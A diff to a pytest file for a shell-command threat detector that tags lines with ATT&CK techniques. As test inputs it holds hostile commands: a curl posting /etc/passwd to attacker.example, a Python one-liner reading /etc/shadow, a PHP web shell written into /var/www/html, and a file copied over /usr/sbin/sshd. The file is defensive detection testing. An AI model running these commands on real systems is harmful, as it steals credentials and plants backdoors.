@@ -423,6 +423,7 @@ def _assessed(line: str, parent: str = "bash", uid: int = 1000) -> dict[str, flo
     ("bash /tmp/x.sh", "T1204.002", 0.3),
     ("ssh -i /tmp/id_rsa root@10.0.0.5", "T1021.004", 0.35),  # a key kept in a temp place
     ("curl -F file=@/etc/passwd https://attacker.example/u", "T1048", 0.4),  # a system file sent out
+    ("python3 -c \"print(open('/etc/shadow').read())\"", "T1003.008", 0.6),  # inline code opens a secret
 ])
 def test_one_exec_forms_are_read_as_what_they_run(line: str, technique: str, weight: float) -> None:
     assert _assessed(line).get(technique, 0) >= weight, (line, _assessed(line))
@@ -445,6 +446,9 @@ def test_a_build_frontend_running_its_script_from_temp_is_not_a_dropper() -> Non
 
 
 HIDDEN_STAGED_OR_DESTROYED = [
+    ('mkdir "/tmp/. /"', "T1564.001"),  # a name a listing shows as `.`
+    ("cp /tmp/x /usr/sbin/sshd", "T1554"),  # a staged file over a program intruders replace
+    ("echo '<?php system($_GET[c]); ?>' > /var/www/html/x.php", "T1505.003"),
     ("mv /tmp/payload /dev/shm/.payload", "T1564.001"),
     ("cp /tmp/x /var/lib/.cache/x", "T1564.001"),
     ("mv x /tmp/kworker", "T1036.005"),
@@ -474,6 +478,9 @@ def test_less_common_techniques_are_named(line: str, technique: str) -> None:
     "find /srv/backups -delete",
     "cp /srv/app/release.tgz /tmp/release.tgz",
     "rclone sync /var/backups b2:corp-backups",
+    "mkdir -p /tmp/build/.cache",
+    "cp ./build/app /usr/bin/app",
+    "cp index.php /var/www/html/index.php",
 ])
 def test_their_routine_neighbours_stay_weak(line: str) -> None:
     assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
